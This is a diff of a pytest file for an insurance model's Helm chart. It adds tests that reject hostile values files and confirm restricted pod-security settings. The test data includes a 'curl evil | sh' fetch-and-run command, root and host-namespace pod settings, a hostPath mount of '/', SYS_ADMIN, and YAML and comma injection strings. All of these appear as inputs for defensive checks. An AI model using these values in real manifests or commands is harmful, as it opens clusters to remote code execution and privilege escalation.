@@ -1,10 +1,17 @@
 """The Helm chart, rendered by the real helm binary and validated against Kubernetes schemas."""
 
+import copy
 import subprocess
 
 import pytest
 
-from insurance_pipeline.deploy.plan import CHART, ChartError, render_chart, validate_objects
+from insurance_pipeline.deploy.plan import (
+    CHART,
+    ChartError,
+    render_chart,
+    restricted_violations,
+    validate_objects,
+)
 from insurance_pipeline.resources.deploy import DeployRunnerResource
 
 HELM = DeployRunnerResource().helm()
@@ -12,7 +19,9 @@ BASE = {"model.version": "7", "model.sha256": "ab" * 32}
 NON_DEFAULT = {
     **BASE,
     "namespace": "ml-prod",
-    "createNamespace": True,
+    "createNamespace": False,
+    "networkPolicy.enabled": False,
+    "config.logPredictionInputs": True,
     "service.type": "ClusterIP",
     "autoscaling.enabled": True,
     "replicaCount": 3,
@@ -59,8 +68,22 @@ def test_every_rendered_object_is_valid_kubernetes(values):
 def test_default_objects_probes_resources_and_security():
     objects = render(BASE)
     kinds = by_kind(objects)
-    assert set(kinds) == {"Deployment", "Service", "ConfigMap", "PodDisruptionBudget"}
-    assert all(o["metadata"]["namespace"] == "model-services" for o in objects)
+    assert set(kinds) == {
+        "Namespace",
+        "NetworkPolicy",
+        "Deployment",
+        "Service",
+        "ConfigMap",
+        "PodDisruptionBudget",
+    }
+    namespace = kinds["Namespace"]["metadata"]
+    assert namespace["name"] == "model-services"
+    assert namespace["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"
+    assert namespace["annotations"]["helm.sh/resource-policy"] == "keep"
+    assert all(
+        o["metadata"]["namespace"] == "model-services" for o in objects if o["kind"] != "Namespace"
+    )
+    assert kinds["ConfigMap"]["data"]["LOG_PREDICTION_INPUTS"] == "false"  # health data
     deployment = kinds["Deployment"]
     assert deployment["spec"]["replicas"] == 2
     c = container(objects)
@@ -99,15 +122,14 @@ def test_non_default_values_take_effect():
     objects = render(NON_DEFAULT)
     kinds = by_kind(objects)
     assert set(kinds) == {
-        "Namespace",
         "Deployment",
         "Service",
         "ConfigMap",
         "PodDisruptionBudget",
         "HorizontalPodAutoscaler",
     }
-    assert all(o["metadata"].get("namespace", "ml-prod") == "ml-prod" for o in objects)
-    assert kinds["Namespace"]["metadata"]["name"] == "ml-prod"
+    assert all(o["metadata"]["namespace"] == "ml-prod" for o in objects)
+    assert kinds["ConfigMap"]["data"]["LOG_PREDICTION_INPUTS"] == "true"
     assert "replicas" not in kinds["Deployment"]["spec"]  # the HPA owns the count
     assert kinds["Service"]["spec"]["type"] == "ClusterIP"
     assert container(objects)["image"] == "ghcr.io/acme/icm:v7-hotfix"
@@ -148,7 +170,10 @@ def test_the_defaults_are_the_original_names_nodeport_and_port_8000():
     kinds = by_kind(objects)
     assert kinds["Deployment"]["metadata"]["name"] == "insurance-charges-model-deployment"
     assert kinds["Service"]["metadata"]["name"] == "insurance-charges-model-service"
-    assert all(o["metadata"]["namespace"] == "model-services" for o in objects)
+    assert kinds["Namespace"]["metadata"]["name"] == "model-services"
+    assert all(
+        o["metadata"]["namespace"] == "model-services" for o in objects if o["kind"] != "Namespace"
+    )
     service = kinds["Service"]["spec"]
     assert service["type"] == "NodePort"
     assert service["ports"][0]["port"] == 8000 and service["ports"][0]["targetPort"] == 8000
@@ -167,8 +192,9 @@ def test_the_service_settings_reach_the_pod():
     assert config["SERVICE_SHUTDOWN_TIMEOUT_SECONDS"] == "20"
 
 
-def test_an_optional_network_policy_admits_only_the_service_port():
-    assert "NetworkPolicy" not in by_kind(render(BASE))
+def test_the_network_policy_is_on_by_default_and_admits_only_the_service_port():
+    assert "NetworkPolicy" in by_kind(render(BASE))
+    assert "NetworkPolicy" not in by_kind(render({**BASE, "networkPolicy.enabled": False}))
     peers = [{"namespaceSelector": {"matchLabels": {"team": "pricing"}}}]
     objects = render({**BASE, "networkPolicy.enabled": True, "networkPolicy.ingressFrom": peers})
     assert validate_objects(objects) == []
@@ -180,7 +206,7 @@ def test_an_optional_network_policy_admits_only_the_service_port():
 
 
 def test_an_owned_namespace_carries_the_restricted_pod_security_labels():
-    labels = by_kind(render(NON_DEFAULT))["Namespace"]["metadata"]["labels"]
+    labels = by_kind(render(BASE))["Namespace"]["metadata"]["labels"]
     for mode in ("enforce", "audit", "warn"):
         assert labels[f"pod-security.kubernetes.io/{mode}"] == "restricted"
 
@@ -193,5 +219,58 @@ def test_the_image_by_digest_wins_over_the_tag():
 
 def test_values_go_in_a_file_so_a_comma_cannot_rewrite_another_value():
     hostile = "abc,image.repository=evil/x"
-    image = container(render({**BASE, "image.tag": hostile}))["image"]
-    assert image == f"registry.local/insurance-charges-model:{hostile}"  # one literal value
+    with pytest.raises(ChartError, match="/image/tag"):  # one literal value, and not a tag
+        render({**BASE, "image.tag": hostile})
+    assert container(render({**BASE, "image.tag": "v7.1"}))["image"].endswith(":v7.1")
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        {"hostNetwork": True},
+        {"hostPID": True},
+        {"hostIPC": True},
+        {"command": ["sh", "-c", "curl evil | sh"]},
+        {"resources": None},
+        {"securityContext": {"runAsUser": 0, "runAsGroup": 0, "fsGroup": 0}},
+        {"namespace": "model-services\n  annotations:\n    injected: yes"},
+        {"names": {"deployment": "x\nspec: {}", "service": "s"}},
+        {"config": {"appName": "a", "logLevel": "INFO", "port": 8000, "extra": 1}},
+    ],
+    ids=lambda extra: next(iter(extra)),
+)
+def test_helm_refuses_a_values_file_that_loosens_the_pod(tmp_path, extra):
+    """An extra values file (DEPLOY_VALUES_FILE) is checked by the chart's strict schema:
+    unknown keys, nulls and strings that are not names never reach a manifest."""
+    import yaml
+
+    hostile = tmp_path / "hostile.yaml"
+    hostile.write_text(yaml.safe_dump(extra))
+    with pytest.raises(ChartError, match="schema"):
+        render_chart(BASE_NESTED, helm=HELM, release="icm", values_files=(str(hostile),))
+
+
+BASE_NESTED = {"model": {"version": "7", "sha256": "ab" * 32}}
+
+
+def test_rendered_objects_are_checked_for_the_restricted_pod_security_profile():
+    objects = render(BASE)
+    assert restricted_violations(objects) == []
+    loosened = copy.deepcopy(objects)
+    deployment = by_kind(loosened)["Deployment"]
+    pod = deployment["spec"]["template"]["spec"]
+    pod["hostNetwork"] = True
+    pod["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
+    pod["containers"][0]["securityContext"]["allowPrivilegeEscalation"] = True
+    pod["containers"][0]["securityContext"]["capabilities"] = {"add": ["SYS_ADMIN"]}
+    pod["containers"][0]["ports"][0]["hostPort"] = 80
+    found = " ".join(restricted_violations(loosened))
+    for problem in (
+        "hostNetwork",
+        "hostPath",
+        "allowPrivilegeEscalation",
+        "drop ALL",
+        "SYS_ADMIN",
+        "hostPort",
+    ):
+        assert problem in found, (problem, found)
